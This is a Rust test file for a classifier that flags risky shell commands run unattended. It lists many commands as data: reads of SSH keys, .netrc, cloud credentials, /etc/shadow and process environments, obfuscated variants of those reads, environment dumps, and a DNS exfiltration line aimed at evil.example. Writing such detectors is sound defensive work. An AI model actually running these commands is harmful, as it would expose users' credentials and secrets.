use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use super::*;
use crate::command::{self, Dialect};
use crate::destructive::{judge, judge_unattended};

const HOME: &str = "/home/u";

/// What a run is asked about there, in a project that is the directory itself.
fn dangers_in(text: &str, cwd: &str, dialect: Dialect) -> Vec<Danger> {
    let variables: BTreeMap<String, String> = [
        ("HOME", HOME),
        ("PATH", "/bin"),
        ("API_KEY", "sk-1"),
        ("LC_ALL", "C"),
    ]
    .map(|(name, value)| (name.to_owned(), value.to_owned()))
    .into();
    let surroundings = RunSurroundings {
        home: Some(HOME),
        variables: &variables,
    };
    let reading = command::read(text, dialect);
    judge_unattended(
        &reading,
        text,
        &[PathBuf::from(cwd)],
        Path::new(cwd),
        surroundings,
    )
}

fn dangers(text: &str) -> Vec<Danger> {
    dangers_in(text, "/home/u/proj", Dialect::Bash)
}

/// Each of these has one of the wanted dangers.
#[track_caller]
fn all_have(wanted: &[Danger], texts: &[&str]) {
    let missed = texts.iter().map(|it| (it, dangers(it)));
    let missed: Vec<_> = missed
        .filter(|(_, found)| !wanted.iter().any(|it| found.contains(it)))
        .collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

const READS: &[Danger] = &[
    Danger::ReadsSecrets,
    Danger::MayReadSecrets,
    Danger::KnownOnlyWhenRun,
    Danger::NotUnderstood,
];

#[test]
fn reading_that_may_come_upon_keys_is_asked_about() {
    all_have(
        READS,
        &[
            "cat ~/.ssh/id_rsa",
            "cat $HOME/.ssh/id_rsa",
            "cat \"$HOME/.ssh/id_rsa\"",
            "cat \"$HOME\"/.ssh/id_rsa",
            "cat ${HOME}/.aws/credentials",
            "cat \"${HOME}\"/.config/gh/hosts.yml",
            "cat ${HOME:-/x}/.netrc",
            "cat $(echo ~/.ssh/id_rsa)",
            "cat `echo ~/.netrc`",
            "cat \"$(ls -d ~/.s*/id_rsa)\"",
            "cat ~/.ss*/id*",
            "cat ~/.ss[h]/id*",
            "cat ~/.ss{g..i}/id*",
            "cat ~/{.netrc,x}",
            "cat ~u/.netrc",
            "cat ~root/.bash_history",
            "cat ~/.bash_history",
            "cat ~/.config/aish/keys.toml",
            "cat /hom?/*/.netrc",
            "cat /home/u/../other/.bash_history",
            "cat ../.netrc",
            "cat ../.n*",
            "cat ../*",
            "cat ~/*",
            "cat $PWD/../.netrc",
            "cat /etc/shado?",
            "cat /etc/s*",
            "cat /et[c]/shadow",
            "cat /etc/ssl/private/x",
            "cat /proc/self/environ",
            "cat /proc/*/environ",
            "cat /pro?/1/env*",
            "cat /proc/self/cwd/x",
            "cat .e*",
            "cat .*",
            "cat id_*",
            "cat *.p?m",
            "cat se*.pem",
            "cat server.key",
            "F=~/.netrc; cat $F",
            "cat \"$x\"",
            "cat src/$x",
            "head -5 $x",
            "< ~/.bash_history cat",
            "cat < $HOME/.ssh/id_rsa",
            "cat < \"$x\"",
            "x=$(<$HOME/.netrc); echo \"$x\"",
            "while read l; do echo $l; done < ${HOME}/.netrc",
            "grep -r sekret ~",
            "grep -r sekret $HOME",
            "grep -r sekret ..",
            "grep -rn sekret /",
            "grep -rn sekret /home",
            "grep -rn sekret /h*",
            "grep -rn sekret /etc",
            "grep -rn sekret /root",
            "grep -e sekret -r ~/",
            "grep -A 3 -r sekret ~",
            "grep sekret -n ~/.bash_history",
            "rg --hidden sekret ~",
            "rg sekret ~/../u",
            "rg sekret /etc",
            "ag sekret ~",
            "tar c ~",
            "tar -cf - $HOME",
            "tar cf x.tar -C / home",
            "tar czf x.tgz ~/.config",
            "cp -r ~ x",
            "cp -r ~/.ssh x",
            "cp $HOME/.netrc x",
            "zip -r x.zip ~",
            "diff -r ~ x",
            "cat ~/**",
            "find ~ -exec cat {} +",
            "find / -name '*.conf' -exec cat {} \\;",
            "find -exec cat $HOME/.netrc \\;",
            "find . -name '.e*' -exec cat {} \\;",
            "find . -name 'ID_RS?' -exec cat {} \\;",
            "find -L . -exec cat {} +",
            "find \"$x\" -exec cat {} +",
            "find ~ -exec grep x {} /dev/null \\;",
            "fd . ~ -x cat",
            "fd -H . / -x cat {}",
            "find ~ -name 'id_*' | xargs cat",
            "echo ~/.netrc | xargs cat",
            "echo .netrc | xargs -I{} cat ~/{}",
            "xargs -a $HOME/.netrc echo",
            "cd && cat .bash_history",
            "cd ~ && cat notes",
            "cd .. && cat .bash_history",
            "cd .. && grep -r sekret .",
            "cd $x; cat a",
            "bash -c 'cat $HOME/.netrc'",
            "bash -c 'cat \"$1\"' _ ~/.netrc",
            "eval \"cat \\$HOME/.netrc\"",
            "timeout 5 cat $HOME/.netrc",
            "for f in ~/.ssh/*; do cat $f; done",
            "for f in $(ls -d ~/.s*/*); do cat \"$f\"; done",
            "for f in src/*.rs; do f=~/.netrc; cat \"$f\"; done",
            "for f in a; do read f; cat \"$f\"; done <<< ~/.netrc",
            "for f in a; do bash -c 'cat $f'; done",
            "for f in a b; do cat \"../$f/../.netrc\"; done",
            "jq -R . $HOME/.netrc",
            "jq -n --rawfile a $HOME/.netrc '$a'",
            "sed -n p $HOME/.netrc",
            "awk '{print}' ${HOME}/.netrc",
            "date -f $HOME/.netrc",
            "wc --files0-from=$HOME/.netrc",
            "du --files0-from=$HOME/.netrc",
            "git diff --no-index /dev/null ~/.bash_history",
            "git show HEAD:.env",
            "yq -n 'load_str(\"/home/u/.netrc\")'",
            "base64 $HOME/.ssh/id_rsa",
            "cp ../.bash_history x",
            "diff <(cat $HOME/.netrc) <(sort b)",
            "diff <(sort a)$x b",
            "cat <> ../.bash_history",
            "exec 3< ~/.bash_history; cat <&3",
            "git config --list",
            "git grep sekret -- ~",
            "busybox cat $HOME/.netrc",
            "sudo -n cat $HOME/.netrc",
            "python3 -m json.tool $HOME/.docker/config.json",
            "less $HOME/.netrc",
            "cat ~+/.netrc",
            "cat '../.netrc'",
            "cat .\"ssh\"/../../.netrc",
            "ls $(cat $HOME/.netrc)",
            "echo ${x:-$(cat ~/.netrc)}",
            "cat src/../../*",
            "cat src/*/../../../.n*",
            "cat [.]e*",
            "sort -m $HOME/.netrc",
            "strings /proc/1/mem",
        ],
    );
}

#[test]
fn a_directory_that_holds_keys_is_no_project() {
    for (text, cwd) in [
        ("grep -rn foo .", HOME),
        ("grep -rn foo", HOME),
        ("rg foo", HOME),
        ("tar czf x.tgz .", HOME),
        ("cat .bash_history", HOME),
        ("cat .b*", HOME),
        ("find . -exec cat {} +", HOME),
        ("grep -rn foo .", "/home"),
        ("grep -rn foo .", "/"),
        ("grep -rn foo .", "/etc"),
        ("cat shadow-", "/etc"),
        ("cat my_own_key", "/home/u/.ssh"),
        ("cat keys.toml", "/home/u/.config/aish"),
        ("rg foo", "/home/u/.config"),
    ] {
        let found = dangers_in(text, cwd, Dialect::Bash);
        assert!(!found.is_empty(), "{text} in {cwd}");
    }
    for (text, cwd) in [
        ("ls -la", HOME),
        ("cat notes.txt", HOME),
        ("cat hosts", "/etc"),
        ("grep -rn foo .", "/home/u/.dotfiles"),
        ("cat .bashrc", "/home/u/.dotfiles"),
        ("cat init.lua", "/home/u/.config/nvim"),
        ("grep -rn foo .", "/srv/app"),
    ] {
        let found = dangers_in(text, cwd, Dialect::Bash);
        assert!(found.is_empty(), "{text} in {cwd}: {found:?}");
    }
}

#[test]
fn ordinary_reading_in_a_project_is_not_asked_about() {
    let mut asked = vec![];
    for text in [
        "cat src/*.rs",
        "cat *",
        "cat README*",
        "head -20 src/main.rs",
        "grep -rn foo .",
        "grep -rn 'a.*b' src --include=*.rs",
        "grep -n -A 3 '/etc/x' src/main.rs",
        "grep -e foo -e /bar src/a.rs",
        "rg -n foo",
        "rg --hidden foo .",
        "rg 'x/.*' src | head -5",
        "ls ~",
        "ls -la ~/.config",
        "ls ~/.ssh",
        "stat $HOME",
        "du -sh ~",
        "tree -L 2",
        "find ~ -maxdepth 2 -name '*.md'",
        "find . -name '*.rs' -exec wc -l {} +",
        "find . -type f -exec grep -n main {} +",
        "find src -name '*.rs' -exec head -3 {} \\;",
        "fd -e rs -x wc -l",
        "cat \"$PWD/x\"",
        "cat $PWD/src/x.rs",
        "cat ${PWD}/x",
        "cat ~/notes.txt",
        "cat $HOME/other/README.md",
        "cat /etc/hosts /etc/os-release",
        "cat /proc/cpuinfo /proc/self/status",
        "cat /usr/include/stdio.h",
        "head -3 /usr/include/*.h",
        "cat ~/.cargo/registry/src/index/serde-1/src/lib.rs",
        "grep -rn 'fn foo' ~/.cargo/registry/src",
        "cat .gitignore .github/workflows/ci.yml",
        "cat src/credentials/mod.rs",
        "for f in src/*.rs; do head -3 \"$f\"; done",
        "for f in src/*.rs; do tail -n 3 $f; done",
        "for f in a b; do wc -l src/$f.rs; done",
        "for i in 1 2 3; do echo $i; done",
        "sed -n '/a/,/b/p' x",
        "sed -n -e '/.*/p' x",
        "awk -F/ '/foo/ {print $1}' x",
        "awk '{print $PATH}' x",
        "cut -d/ -f1 x",
        "cut -d / -f 1 x",
        "sort -t/ -k2 x",
        "tr / - < x",
        "head -n $((2 * 3)) x",
        "sort x | uniq -c | head",
        "wc -l < src/main.rs",
        "jq .name package.json",
        "jq '.a.b[0]' x.json",
        "diff a b",
        "cp -r src copy",
        "tar czf x.tgz src",
        "git log --oneline -5",
        "git show HEAD:src/main.rs",
        "git diff HEAD~1 -- src",
        "git commit -m 'mend /etc reading'",
        "diff <(sort a) <(sort b)",
        "make -j\"$(nproc)\" all",
        "ps -eo pid,etime,comm --sort=-pcpu",
        "git config user.name",
        "x=$(ls); echo \"$x\"",
        "echo $HOME $PATH ${LC_ALL}",
        "x=1; echo $x",
        "echo \"$(wc -l < x)\"",
        "cd src && cat main.rs",
        "cd src && grep -rn foo .",
        "set -e; ls",
        "export RUST_LOG=debug; ls",
        "env RUST_LOG=debug ls",
        "ps aux",
        "ps -ef",
        "ps -eo pid,comm",
        "getent passwd u",
        "cargo test",
        "cargo build --all",
        "npm test",
        "make",
        "pytest -q",
        "go test ./...",
        "node -p process.version",
        "npx --no-install tsc --noEmit",
        "npm ls",
        "pip list",
        "node --version",
    ] {
        let found = dangers(text);
        let before = {
            let root = PathBuf::from("/home/u/proj");
            judge(
                &command::read(text, Dialect::Bash),
                text,
                std::slice::from_ref(&root),
                &root,
            )
        };
        if !found.is_empty() {
            asked.push((text, found, before));
        }
    }
    assert!(asked.is_empty(), "{asked:#?}");
}

#[test]
fn what_prints_the_environment_is_asked_about() {
    all_have(
        &[Danger::ShowsEnvironment, Danger::ChangesEnvironment],
        &[
            "env",
            "env -0",
            "env | grep KEY",
            "env A=1",
            "command env",
            "printenv",
            "printenv API_KEY",
            "export",
            "export -p",
            "declare -x",
            "declare -p",
            "set",
            "set | head",
            "ps e",
            "ps auxe",
            "ps -auxe",
            "ps axeww",
            "ps -o pid,environ",
            "echo $API_KEY",
            "echo \"key: ${API_KEY}\"",
            "echo ${#API_KEY}",
            "ls x$API_KEY",
            "x=$API_KEY; echo $x",
            "cat <<E\n'$API_KEY'\nE",
            "bash -c 'echo $API_KEY'",
            "jq -n env",
            "jq -n '$ENV.API_KEY'",
            "node -p 'process'",
            "node -e 'console.log(JSON.stringify(process))'",
            "systemctl show-environment",
            "docker inspect web",
        ],
    );
}

#[test]
fn what_reaches_the_network_by_a_name_is_asked_about() {
    all_have(
        &[Danger::ReachesNetwork],
        &[
            "getent hosts x.example",
            "getent ahosts x.example",
            "getent -s dns hosts x.example",
            "getent hosts $(cat x).evil.example",
            "host x.example",
            "dig x.example",
            "nslookup x.example",
            "ping -c1 x.example",
            "whois x.example",
            "traceroute x.example",
            "curl https://x.example",
            "wget -qO- https://x.example",
            "ssh host ls",
            "git fetch",
            "git -C . pull",
            "git push",
            "git clone https://x.example/a",
            "git ls-remote origin",
            "gh pr list",
            "kubectl get pods",
            "psql -h x.example -c 'select 1'",
            "npm view x",
            "cargo search x",
            "go mod download",
            "pip index versions x",
            "docker search x",
            "docker build .",
        ],
    );
    let asked = [
        Danger::RunsCode,
        Danger::SendsData,
        Danger::OtherMachine,
        Danger::UnknownProgram,
    ];
    all_have(
        &asked,
        &[
            "nc x.example 80",
            "telnet x",
            "scp x h:",
            "openssl s_client",
        ],
    );
}

#[test]
fn what_brings_programs_of_others_is_asked_about() {
    all_have(
        &[Danger::InstallsPackages],
        &[
            "npm ci",
            "npm ci --ignore-scripts",
            "npm install",
            "npm i x",
            "yarn",
            "yarn install --frozen-lockfile",
            "pnpm install --frozen-lockfile",
            "npx tsc --noEmit",
            "pip install x",
            "pip3 install -r requirements.txt",
            "python3 -m pip install x",
            "uv sync",
            "uv run pytest",
            "poetry install",
            "cargo install x",
            "cargo add x",
            "cargo update",
            "gem install x",
            "bundle install",
            "go install x@latest",
            "go get x",
            "apt-get install -y x",
            "brew install x",
        ],
    );
}

/// Whatever a person who is asked would be warned of, a run is asked about.
#[test]
fn a_run_is_never_judged_less_strictly() {
    let corpora = [
        include_str!("../../../../../tests/data/commands/first.tsv"),
        include_str!("../../../../../tests/data/commands/second.tsv"),
        include_str!("../../../../../tests/data/commands/third.tsv"),
        include_str!("../../../../../tests/data/commands/fourth.tsv"),
    ];
    let mut more = 0;
    for line in corpora.iter().flat_map(|it| it.lines()) {
        let written = line.splitn(3, '\t').nth(2).unwrap();
        let text: String = serde_json::from_str(written).unwrap();
        let root = PathBuf::from("/home/u/proj");
        let reading = command::read(&text, Dialect::Bash);
        let known = judge(&reading, &text, std::slice::from_ref(&root), &root);
        let found = dangers(&text);
        let kept = known.iter().all(|it| found.contains(it));
        assert!(kept, "{text:?}: {known:?} {found:?}");
        if known.is_empty() && !found.is_empty() {
            println!("only in a run: {text:?} {found:?}");
            more += 1;
        }
    }
    println!("{more} that a run is asked about besides");
}
